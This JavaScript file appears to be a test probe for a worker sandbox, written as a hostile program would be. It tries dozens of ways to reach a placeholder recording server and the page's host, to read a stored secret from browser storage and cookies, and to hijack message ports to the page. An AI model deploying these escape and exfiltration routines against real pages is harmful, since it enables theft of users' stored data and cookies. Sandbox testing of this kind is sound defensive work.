// SPDX-License-Identifier: MIT
// A program as somebody hostile would share it: it tries every way from a worker to the network and
// to the storage of the page. OTHER is the address of a server that records connections, OWN the
// address of the page, SECRET_NAME the name under which the page has stored a secret, ONLY a list
// of ways, or undefined for all of them, and FROM the number of ways that are left out first.
const other = 'OTHER';
const own = 'OWN';
const name = 'SECRET_NAME';
const only = ONLY;
const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
const pause = (time) => new Promise((done) => setTimeout(done, time));

/** Sources of workers that report to this program. */
const fetching = `fetch('${other}/nested', { mode: 'no-cors' }).then(() => postMessage('sent'), (e) => postMessage(String(e)))`;
const inWorker = (address, options) =>
  new Promise((done, fail) => {
    const worker = new Worker(address, options);
    worker.onmessage = ({ data }) => done(data);
    worker.onerror = (event) => {
      event.preventDefault();
      fail(new Error('the worker failed'));
    };
  });
const opened = (request) =>
  new Promise((done, fail) => {
    request.onsuccess = () => done(request.result);
    request.onerror = () => fail(request.error);
  });
const connected = (socket) =>
  new Promise((done, fail) => {
    socket.onopen = () => done('open');
    socket.onerror = () => fail(new Error('no connection'));
  });

/** Ports to the page that the program finds while it prints. */
const ports = new Set();
const send = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (...values) {
  ports.add(this);
  return send.apply(this, values);
};
console.log('looking for ports');

const ways = {
  fetch: () => fetch(`${other}/fetch`),
  'fetch of a request': () => fetch(new Request(`${other}/request`, { mode: 'no-cors' })),
  'fetch that outlives the page': () =>
    fetch(`${other}/keepalive`, { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' }),
  'fetch of the page’s host': () => fetch(`${own}index.html?leak=fetch`),
  'fetch of a prototype': () =>
    Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(self, `${other}/proto`),
  XMLHttpRequest: () => {
    const request = new XMLHttpRequest();
    request.open('GET', `${other}/xhr`, false);
    request.send();
    return request.status;
  },
  sendBeacon: () => navigator.sendBeacon(`${other}/beacon`, 'x'),
  WebSocket: () => connected(new WebSocket(`${other.replace('http', 'ws')}/socket`)),
  WebSocketStream: () => new WebSocketStream(`${other.replace('http', 'ws')}/stream`).opened,
  EventSource: () => connected(new EventSource(`${other}/events`)),
  WebTransport: () => new WebTransport(`${other.replace('http', 'https')}/transport`).ready,
  RTCPeerConnection: async () => {
    const urls = `stun:${new URL(other).host}`;
    const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    await pause(500);
  },
  importScripts: () => importScripts(`${other}/scripts`),
  'importScripts of the page’s host': () => importScripts(`${own}index.html?leak=scripts`),
  'dynamic import': () => import(/**/ `${other}/import`),
  'dynamic import of the page’s host': () => import(/**/ `${own}index.html?leak=import`),
  'dynamic import of a blob that imports': () => import(/**/ blob(`import '${other}/static';`)),
  // biome-ignore lint/security/noGlobalEval: hostile programs call it.
  eval: () => globalThis.eval(`import('${other}/eval')`),
  Function: () => new Function(`return import('${other}/function')`)(),
  FontFace: () => new FontFace('x', `url(${other}/font)`).load(),
  Worker: () => inWorker(`${other}/worker`),
  'Worker of the page’s host': () => inWorker(`${own}index.html?leak=worker`),
  'Worker of a blob': () => inWorker(blob(fetching)),
  'Worker of a blob that imports scripts': () =>
    inWorker(blob(`importScripts('${other}/nested-scripts'); postMessage('sent')`)),
  'Worker of a module': () =>
    inWorker(blob(`import '${other}/nested-module'; postMessage('sent')`), { type: 'module' }),
  'Worker in a worker': () =>
    inWorker(
      blob(
        `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(fetching)}]))).onmessage = ({ data }) => postMessage(data)`,
      ),
    ),
  'Worker of data': () => inWorker(`data:text/javascript,${encodeURIComponent(fetching)}`),
  SharedWorker: () => new SharedWorker(blob(fetching)),
  Notification: () => new Notification('x', { icon: `${other}/icon`, image: `${other}/image` }),
  serviceWorker: () => navigator.serviceWorker.register(`${own}index.html?leak=service`),
  location: () => {
    location.href = `${other}/location`;
  },
  open: () => globalThis.open(`${other}/open`),
  'the ports to the page': async () => {
    const names = ['x?leak=port', 'index.html?leak=port', `${other}/port`, '../models/x?leak=port'];
    for (const port of ports)
      for (const [id, each] of names.entries())
        send.call(port, { kind: 'wanted', id: 1000 + id, name: each });
    const answers = [];
    for (const port of ports)
      port.addEventListener('message', ({ data }) => answers.push(JSON.stringify(data)));
    await pause(300);
    return answers.join() || 'no answer';
  },
  'a message to the frame': () => postMessage({ kind: 'wanted', id: 1, name: `${other}/frame` }),
  'loadModel of an address': async () => {
    const { loadModel } = await import('maskflow');
    await loadModel(`${other}/model.keras`);
  },
  'loadModel of a repository': async () => {
    const { loadModel } = await import('maskflow');
    await loadModel('hf://owner/name/model.keras');
  },
  indexedDB: async () => {
    const database = await opened(indexedDB.open(name));
    return JSON.stringify(await opened(database.transaction(name).objectStore(name).getAll()));
  },
  'names of databases': async () => JSON.stringify(await indexedDB.databases()),
  'the private file system': async () => {
    const folder = await navigator.storage.getDirectory();
    return (await (await folder.getFileHandle(name)).getFile()).text();
  },
  caches: async () => {
    const response = await caches.match(`${own}${name}`);
    return `${await caches.keys()} ${response && (await response.text())}`;
  },
  localStorage: () => localStorage.getItem(name),
  sessionStorage: () => sessionStorage.getItem(name),
  cookie: () => document.cookie,
  cookieStore: async () => JSON.stringify(await cookieStore.getAll()),
  BroadcastChannel: async () => {
    const channel = new BroadcastChannel(name);
    let heard = 'nothing heard';
    channel.onmessage = ({ data }) => {
      heard = data;
    };
    channel.postMessage('from the program');
    await pause(500);
    return heard;
  },
  locks: async () => JSON.stringify(await navigator.locks.query()),
  'opfs://': async () => {
    const { loadModel } = await import('maskflow');
    await loadModel(`opfs://${name}`);
  },
  'indexeddb://': async () => {
    const { loadModel } = await import('maskflow');
    await loadModel(`indexeddb://${name}`);
  },
};

async function resultOf(attempt) {
  try {
    return await Promise.race([attempt(), pause(1000).then(() => 'no answer')]);
  } catch (error) {
    return `${error?.name}: ${error?.message}`;
  }
}

// The page ends programs after ten seconds, and several ways get no answer: ten at a time.
const left = Object.entries(ways).filter(([way]) => !only || only.includes(way));
let tried = FROM;
left.splice(0, tried);
while (left.length > 0) {
  const group = left.splice(0, 10);
  const results = await Promise.all(group.map(([, attempt]) => resultOf(attempt)));
  for (const [index, [way]] of group.entries()) console.log(`${way}: ${results[index]}`);
  tried += group.length;
  console.log(`tried: ${tried}`);
}
console.log('All ways are tried.');
